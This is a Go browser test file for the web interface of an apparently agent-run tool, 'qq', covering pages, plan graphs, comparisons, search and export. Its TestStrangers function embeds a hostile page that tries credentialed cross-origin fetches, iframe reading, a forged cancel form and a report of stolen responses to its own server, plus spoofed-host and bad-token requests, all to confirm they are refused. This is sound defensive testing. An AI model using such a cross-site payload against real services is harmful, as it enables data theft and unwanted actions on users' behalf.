package page

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"qq/internal/standin"
	"qq/test/chromium"
)

// past is a world with a planned batch and a prompt that have ended.
func past(t *testing.T) *world {
	t.Helper()
	w := newWorld(t, standin.Script{Start: "[[edit]]", Text: edits},
		standin.Script{Start: "[[edited]]", Text: "The notes are changed."},
		standin.Script{Start: "[[quick]]", Text: "A quick answer."},
		standin.Script{Start: "[[top]]", Text: `I ask others. <tool_call>{"name":"run_parallel_tasks","arguments":{"tasks":[` +
			`{"agent":"explorer","task":"Look here. [[found]]"},{"agent":"explorer","task":"Look there. [[found]]"}]}}</tool_call>`},
		standin.Script{Start: "[[found]]", Text: "It is here. [[joined]]"},
		standin.Script{Start: "[[joined]]", Text: "Both have found it."})
	w.file("notes.txt", "one\ntwo\n")
	w.run("batch", "--auto-approve", "-j", "2", w.tasks(
		map[string]any{"id": "first", "task": "Say something quick. [[quick]]", "agent": "explorer"},
		map[string]any{"id": "second", "task": "Say something, too. [[quick]]", "agent": "explorer"},
		map[string]any{"id": "third", "task": "Change the notes. [[edit]]", "agent": "coder", "needs": []string{"first"},
			"targets": []string{"notes.txt"}},
		map[string]any{"id": "fourth", "task": "And again. [[quick]]", "agent": "explorer", "needs": []string{"third", "second"}},
	))
	w.run("--auto-approve", "Ask the others. [[top]]")
	return w
}

// All pages of the past can be read and reached without a script, and fit a narrow screen.
func TestWithoutScript(t *testing.T) {
	t.Parallel()
	w := past(t)
	b := chromium.Start(t)
	p := b.Page(chromium.View{Width: 400, Height: 800, NoScript: true})
	p.Open(w.serve())
	p.Reads("Batch of 4 tasks")
	p.Reads("Ask the others.")
	root := strings.SplitAfter(p.URL(), "/")
	home := strings.Join(root[:4], "")
	var list []string
	for _, one := range p.Links(".runs .name") {
		list = append(list, one, one+"/timeline", one+"/plan", one+"?choose=1")
		p.Open(one)
		list = append(list, p.Links("#jobs .task a")...)
	}
	require.Greater(t, len(list), 12)
	list = append(list, home, home+"search?q=quick")
	for _, one := range list {
		p.Open(one)
		var wide, whole int
		p.Value("document.documentElement.scrollWidth", &wide)
		p.Value("document.documentElement.clientWidth", &whole)
		assert.LessOrEqual(t, wide, whole, "%s is wider than the screen", one)
		assert.NotContains(t, p.Text(), "no such page", one)
	}
	assert.Empty(t, b.Wrong())
}

// A planned batch has its plan as a graph, afterwards too; and two of its jobs can be compared.
func TestPlanAndComparison(t *testing.T) {
	t.Parallel()
	w := past(t)
	b := chromium.Start(t)
	p := b.Page(chromium.View{Width: 1400, Height: 900})
	p.Open(w.serve())
	p.Reads("Batch of 4 tasks")
	shots(p, "past")
	var run string
	p.Value(`[...document.querySelectorAll(".runs .name")].find(a => a.textContent.includes("Batch")).href`, &run)
	p.Open(run + "/plan")
	p.Reads("4 tasks in 3 stages")
	var edges, thick int
	p.Value(`document.querySelectorAll("path.edge").length`, &edges)
	p.Value(`document.querySelectorAll("path.edge.chain").length`, &thick)
	assert.Equal(t, 4, edges, "the third one may also change what the second one reads")
	assert.Equal(t, 2, thick)
	shots(p, "planned")
	p.Open(run + "/timeline")
	p.Reads("The longest chain has ")
	shots(p, "planned-timeline")

	p.Open(run)
	p.Click(".head .actions a")
	p.Until(`document.querySelectorAll("input.choose").length === 4`)
	p.Click("#jobs li:nth-child(1) input")
	p.Click("#jobs li:nth-child(3) input")
	p.Click("#compare button")
	p.Reads("side by side")
	p.Reads("Calls of edit_file")
	p.Reads("-A quick answer.")
	p.Reads("+The notes are changed.")
	shots(p, "compare")

	// The search finds a task and an answer. Keys lead there.
	p.Key("/")
	p.Type("notes are")
	p.Key("Enter")
	p.Reads("Found for “notes are”")
	p.Reads("1 job")
	shots(p, "search")
	p.Key("j")
	p.Key("Enter")
	p.Until(`location.pathname.includes("/job/")`)
	p.Reads("+ONE [[edited]]")

	// A prompt with jobs below it is a tree.
	p.Click(".brand")
	p.Reads("Ask the others.")
	p.Value(`[...document.querySelectorAll(".runs .name")].find(a => a.textContent.includes("Ask")).href`, &run)
	p.Open(run)
	p.Reads("3 jobs")
	p.Until(`document.querySelectorAll("#jobs details[open] ul .job").length === 2`)
	p.Reads("Look there.")
	shots(p, "tree")

	// Two batches are compared, and of them two tasks.
	w.run("batch", w.tasks(map[string]any{"id": "first", "task": "Say something quick. [[quick]]", "agent": "explorer"},
		map[string]any{"id": "second", "task": "Change the notes, again. [[found]]", "agent": "explorer"}))
	p.Click(".brand")
	p.Reads("Batch of 2 tasks")
	p.Click("main > p .button")
	p.Until(`document.querySelectorAll("input.choose").length === 3`)
	shots(p, "choose-runs")
	p.Value(`[...document.querySelectorAll(".runs li")].filter(li => li.innerText.includes("Batch")).forEach(li => `+
		`li.querySelector("input").click())`, nil)
	p.Click("#compare button")
	p.Reads("Two batches, side by side")
	p.Reads("1 of 4 answers are the same.")
	shots(p, "compare-batches")
	p.Click(".pairs tbody tr:nth-child(1) a")
	p.Reads("Two jobs, side by side")
	p.Reads("Both answers are the same")
	assert.Empty(t, b.Wrong())
}

// The file of a run is shown by a browser that knows nothing of qq.
func TestExportedFile(t *testing.T) {
	t.Parallel()
	w := past(t)
	b := chromium.Start(t)
	p := b.Page(chromium.View{Width: 1400, Height: 900})
	p.Open(w.serve())
	p.Reads("Batch of 4 tasks")
	var run, text string
	p.Value(`[...document.querySelectorAll(".runs .name")].find(a => a.textContent.includes("Batch")).href`, &run)
	p.Value(fmt.Sprintf(`fetch(%q).then(r => r.text())`, run+"/export"), &text)
	file := filepath.Join(t.TempDir(), "run.html")
	require.NoError(t, os.WriteFile(file, []byte(text), 0o600))
	other := b.Page(chromium.View{Width: 1400, Height: 900})
	other.Open("file://" + file)
	other.Reads("Change the notes.")
	other.Click("#jobs li:nth-child(3) summary, .tree li:nth-child(3) summary")
	other.Reads("+ONE [[edited]]")
	shots(other, "export")
	assert.Empty(t, b.Wrong())
}

// A page of another site cannot read or do anything, and neither can who has no cookie, another name for the server, or
// an address that was used.
func TestStrangers(t *testing.T) {
	t.Parallel()
	w := past(t)
	b := chromium.Start(t)
	p := b.Page(chromium.View{Width: 1400, Height: 900})
	address := w.serve()
	p.Open(address)
	p.Reads("Batch of 4 tasks")
	root := strings.SplitAfter(p.URL(), "/")
	home := strings.Join(root[:4], "")
	var token string
	p.Open(home)
	// Another site, which knows all addresses of the server, and is open in the same browser.
	tried := make(chan url.Values, 1)
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		if r.URL.Path == "/told" {
			_ = r.ParseForm()
			tried <- r.Form
			return
		}
		fmt.Fprintf(w, `<form id=f method=post action="%[1]scancel"><input name=id value=x><input name=root value=x></form>
<iframe src="%[1]s"></iframe><script>
(async () => {
  const got = [];
  for (const [m, path] of [["GET", ""], ["GET", "search?q=quick"], ["POST", "cancel"], ["POST", "answer"]]) {
    try { const r = await fetch(%[1]q + path, {method: m, credentials: "include", mode: "cors"});
      got.push(r.status + await r.text()); } catch (e) { got.push("refused"); }
  }
  let framed = "";
  try { framed = document.querySelector("iframe").contentDocument.body.innerText; } catch (e) { framed = "refused"; }
  await fetch("/told?" + new URLSearchParams({got: got.join(), framed}));
  document.getElementById("f").submit();
})();
</script>`, home)
	}))
	defer evil.Close()
	other := b.Page(chromium.View{Width: 1400, Height: 900})
	other.Open(evil.URL)
	seen := <-tried
	assert.Equal(t, "refused,refused,refused,refused", seen.Get("got"))
	assert.NotContains(t, seen.Get("framed"), "Batch")
	other.Reads("Another site has asked for this.")
	assert.Empty(t, token)

	// Programs without the browser.
	ask := func(change func(*http.Request)) (int, string) {
		t.Helper()
		r, err := http.NewRequestWithContext(t.Context(), http.MethodGet, home, nil)
		require.NoError(t, err)
		change(r)
		res, err := http.DefaultClient.Do(r)
		require.NoError(t, err)
		defer res.Body.Close()
		text, err := io.ReadAll(res.Body)
		require.NoError(t, err)
		return res.StatusCode, string(text)
	}
	for name, change := range map[string]func(*http.Request){
		"no cookie":      func(*http.Request) {},
		"another name":   func(r *http.Request) { r.Host = "evil.example" },
		"a used address": func(r *http.Request) { r.URL, _ = url.Parse(address) },
		"a wrong token":  func(r *http.Request) { r.URL, _ = url.Parse(home + "open?token=x") },
		"no prefix":      func(r *http.Request) { r.URL.Path = "/" },
	} {
		code, text := ask(change)
		assert.GreaterOrEqual(t, code, 400, name)
		assert.NotContains(t, text, "Batch", name)
	}
}
